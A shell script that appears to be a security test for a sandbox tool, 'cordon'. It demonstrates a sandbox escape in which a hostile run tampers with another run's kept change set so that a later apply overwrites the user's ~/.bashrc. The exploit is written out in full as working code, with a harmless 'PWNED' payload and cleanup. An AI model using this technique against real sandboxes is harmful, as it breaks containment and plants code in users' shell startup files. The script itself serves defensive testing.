#!/bin/sh
# Finding: a kept change set of an ordinary user lies inside the writable
# view of any run whose workspace (or --rw path) is its parent or above
# (.cordon-changes-UID is owned by that user, and every run of that user
# writes as that uid). Such a run rewrites N/host (where the apply writes),
# protect (what it holds back) and N/upper (what it writes); `cordon apply`
# of the change set, run later by the user outside any sandbox, then writes
# the run's files anywhere the user can write: here ~/.bashrc, outside the
# hostile run's workspace, a protected name. Nothing in changeset_open can
# tell: owner and mode are the user's own.
# Usage (root; runs everything as user atk): sh 03-kept-changeset-tamper.sh [CORDON]
set -u
CORDON=${1:-/work/wt/atk-ovl/build/cordon}
id atk >/dev/null 2>&1 || useradd -m -s /bin/sh atk
H=$(getent passwd atk | cut -d: -f6)
SRC=$(runuser -u atk -- mktemp -d "$H/src.XXXXXX")
cp -p "$H/.bashrc" "$SRC/bashrc.saved" 2>/dev/null
trap 'cp -p "$SRC/bashrc.saved" "$H/.bashrc" 2>/dev/null; rm -f "$H/out.txt"' EXIT
runuser -u atk -- sh -c "mkdir -p '$SRC/proj'"
# 1. An ordinary review-mode run of project proj: its change set is kept.
runuser -u atk -- sh -c "cd '$SRC/proj' && '$CORDON' run --report '$SRC/a.json' --workspace-mode review -- sh -c 'echo result > out.txt'" || exit 1
D=$(python3 -c "import json,sys;print(json.load(open(sys.argv[1]))['changes']['dir'])" "$SRC/a.json")
echo "kept: $D"
# 2. A hostile run with workspace $SRC (default mode: overlay, applied at
#    its end). It finds the kept change set below its workspace.
runuser -u atk -- sh -c "cd '$SRC' && '$CORDON' run --report '$SRC/c.json' -- sh -c '
for d in .cordon-changes-*/*/; do
	printf %s \"$H\" > \"\$d/0/host\"
	: > \"\$d/protect\"
	echo \"echo PWNED by the sandboxed run\" > \"\$d/0/upper/.bashrc\"
done'" || exit 1
python3 -c "import json,sys;r=json.load(open(sys.argv[1]));print('hostile run: changes', r['changes']['state'], 'protected', r['changes']['protected'])" "$SRC/c.json"
# 3. The user applies the change set they kept for review.
runuser -u atk -- "$CORDON" changes "$D"
runuser -u atk -- "$CORDON" apply "$D"; echo "apply rc=$?"
cat "$H/.bashrc"
if grep -q PWNED "$H/.bashrc"; then
	echo "VULNERABLE: the sandboxed run wrote ~/.bashrc through another run's change set"
	exit 1
fi
echo held
